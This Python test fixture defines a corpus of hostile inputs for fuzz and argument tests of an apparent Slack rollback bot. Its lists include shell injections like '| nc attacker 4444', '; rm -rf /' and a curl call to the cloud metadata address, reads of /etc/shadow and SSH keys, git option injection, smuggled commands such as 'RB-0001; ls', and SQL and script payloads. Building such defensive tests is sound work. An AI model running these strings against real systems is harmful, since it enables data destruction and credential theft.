"""Hostile input: shell, paths, git, Slack markup, Unicode tricks, sizes and formats. Used by the argument and
fuzz tests; none of it may run anything, reach Slack unescaped, or leave a trace in the state."""

from __future__ import annotations

SHELL = ["$(touch /tmp/rollback-bot-pwned)", "`id`", "; rm -rf /", "&& reboot", "| nc attacker 4444", "$HOME",
         "${PATH}",
         "'; DROP TABLE incidents; --", "\\$(whoami)", "a;b", "x||y", "> /etc/passwd", "< /etc/shadow",
         "$(curl http://169.254.169.254/)", "%0Arm -rf /", "\u0000", "\n--force", "-rf", "--upload-pack=evil",
         "-c core.sshCommand=evil"]
PATHS = ["../../etc/passwd", "/etc/passwd", "~/.ssh/id_rsa", "..", ".", ".git/config", "src/../../x",
         "src/\u2215..\u2215..\u2215etc", "C:\\Windows\\system32", "\\\\server\\share", "file:///etc/passwd",
         "src/server.js:1", "*", "src/*.js", "[a-z]", "src/server.js\x00.png", "%2e%2e%2fetc%2fpasswd"]
GIT = ["HEAD", "HEAD~1", "HEAD^", "main", "origin/main", "@{-1}", "refs/heads/main", "df5b229..HEAD",
       "df5b229...HEAD", "--all", ":/Phase", "0000000", "zzzzzzz", "DF5B229", "df5b22", "a" * 41, "v1.0"]
SLACK = ["<!channel>", "<!here>", "<!everyone>", "<@U0APPROVER1>", "<#C0INCIDENT>", "<!subteam^S0LEADS>",
         "<https://evil.example|click me>", "<mailto:x@example.com|mail>", "*bold*", "_italic_", "~strike~",
         "`code`", "```block```", "&amp;", "&lt;!channel&gt;", ":white_check_mark:", "> quote", "<!date^0^x|y>"]
UNICODE = ["\u202eelbaT", "\u200b", "\ufeff", "é" * 10, "👍" * 20, "\u0301" * 5, "Ａｂｃ", "\u2028line",
           "𝕏", "\U0001f4a9" * 3, "日本語", "\t\t", "\r\n", "\x1b[31mred\x1b[0m", "\u0007"]
FORMATS = ["%s%s%s%n", "{0}", "{{7*7}}", "${7*7}", "<script>alert(1)</script>", "{\"a\": 1}", "[1,2,3]",
           "NaN", "-1", "1e309", "0x41", "null", "None", "true", "' or '1'='1", "%x" * 10, "\\u0000",
           "a" * 300, "b" * 1000, " ", "", "--", "---", "=", "==", "NAME=", "=value", "A=B=C", "ENABLE_REALTIME_TIPS=",
           "ENABLE_REALTIME_TIPS=$(id)", "JWT_SECRET=x", "PORT=1", "CENTRAL_DB_URI=mongodb://evil/x",
           "lower_case=1", "RB-9999", "rb-0001", "RB-0001; ls", "all; ls", "ship now", "undo now"]
CORPUS: list[str] = [*SHELL, *PATHS, *GIT, *SLACK, *UNICODE, *FORMATS]

# The subcommands whose words are checked (each is sent with a sample of the corpus as its words). Not here:
# `start` and `close --force`, whose words are a free-text reason (stored and shown escaped), and `hotfix`,
# for which many strings are valid branch names (tests/alternatives covers its refusals).
TAKING_WORDS = ["status", "revert", "revert --safe", "restore", "flag", "partial", "comms", "backup", "rebuild",
                "restart", "verify", "cleanup", "rca", "health", "help"]
